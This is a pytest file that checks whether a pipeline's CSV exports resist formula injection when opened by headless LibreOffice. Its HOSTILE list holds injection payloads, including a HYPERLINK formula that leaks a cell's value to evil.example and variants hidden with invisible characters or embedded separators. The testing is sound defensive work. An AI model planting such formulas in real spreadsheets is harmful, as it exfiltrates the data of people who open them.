"""Our CSVs opened by a real spreadsheet (LibreOffice Calc, headless): no cell becomes a formula,
whether the file is read with "," or ";" as separator, and numbers stay numbers."""

from __future__ import annotations

import datetime as dt
import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from pipeline.aggregate import aggregate, article_table, contract_frame
from pipeline.export import csv_bytes
from pipeline.inputs import read_url_text
from tests.test_aggregate import articles

TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
# LibreOffice's CSV filter options: separator, text delimiter ("), UTF-8 (76), start at line 1.
SEPARATORS = {"comma": "44,34,76,1", "semicolon": "59,34,76,1"}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    '\x00=HYPERLINK("http://evil.example","x")',
    "\ufeff=1+1",
    "\u2060=2+2",
    "\u00ad=3+3",
    "\u200b@SUM(1,2)",
    " \t=4+4",
    "x;=5+5",
    "x,=6+6",
    'x";=7+7',
    "line one\n=8+8",
    "line one\r\n@9",
    "-10+20",
    "+7 701 000 00 00",
]


def _soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        message = "LibreOffice is missing (apt-get install libreoffice-calc-nogui)"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    return found


def _hostile_frame():
    # The first source comes the way an attacker sends it: as a cell of an uploaded URL list.
    listing = 'url,source\nhttps://example.kz/1,"\x00=HYPERLINK(""http://evil.example"",""x"")"\n'
    requests, _ = read_url_text(listing, "list.csv")
    sources = [requests[0].source, *HOSTILE]
    rows = [
        {"published": dt.date(2024, 6, 3), "tension": -0.25, "title": title, "source": source}
        for title, source in zip(HOSTILE, sources, strict=False)
    ]
    return articles(*rows)


@pytest.fixture(scope="module")
def converted(tmp_path_factory) -> dict[str, Path]:
    """Each of our CSVs, read by LibreOffice with each separator and saved as flat ODF (.fods)."""
    soffice = _soffice()
    base = tmp_path_factory.mktemp("sheet")
    frame = _hostile_frame()
    csvs = {
        "articles": csv_bytes(article_table(frame)),
        "by_source": csv_bytes(contract_frame(aggregate(frame, by="source"))),
    }
    out: dict[str, Path] = {}
    for sep, options in SEPARATORS.items():
        folder = base / sep
        folder.mkdir()
        for name, data in csvs.items():
            (folder / f"{name}.csv").write_bytes(data)
        command = [
            soffice,
            f"-env:UserInstallation={(base / 'profile').as_uri()}",
            "--headless",
            "--norestore",
            f"--infilter=CSV:{options}",
            "--convert-to",
            "fods",
            "--outdir",
            str(folder),
            *(str(folder / f"{name}.csv") for name in csvs),
        ]
        subprocess.run(command, check=True, capture_output=True, timeout=180)
        for name in csvs:
            out[f"{name}/{sep}"] = folder / f"{name}.fods"
    return out


def _cells(path: Path) -> list[ET.Element]:
    return list(ET.parse(path).getroot().iter(f"{{{TABLE}}}table-cell"))


def _text(cell: ET.Element) -> str:
    return "\n".join("".join(p.itertext()) for p in cell.iter(f"{{{TEXT}}}p"))


@pytest.mark.parametrize("sheet", ["articles/comma", "articles/semicolon", "by_source/comma", "by_source/semicolon"])
def test_no_cell_of_our_csv_is_a_formula_in_libreoffice(converted, sheet):
    cells = _cells(converted[sheet])
    assert cells, f"{sheet}: LibreOffice produced no cells"
    formulas = [(c.get(f"{{{TABLE}}}formula"), _text(c)) for c in cells if c.get(f"{{{TABLE}}}formula")]
    assert formulas == []


def test_with_commas_each_hostile_title_is_one_text_cell_and_numbers_stay_numbers(converted):
    cells = _cells(converted["articles/comma"])
    texts = [_text(c) for c in cells]
    # the apostrophe stays visible: the reader sees that the cell was text, not a lost formula
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")' in texts
    assert "x;=5+5" in texts and "x,=6+6" in texts and 'x";=7+7' in texts
    assert "line one =8+8" in texts
    tensions = [c for c in cells if _text(c) == "-0.25"]
    assert tensions and all(c.get(f"{{{OFFICE}}}value-type") == "float" for c in tensions)
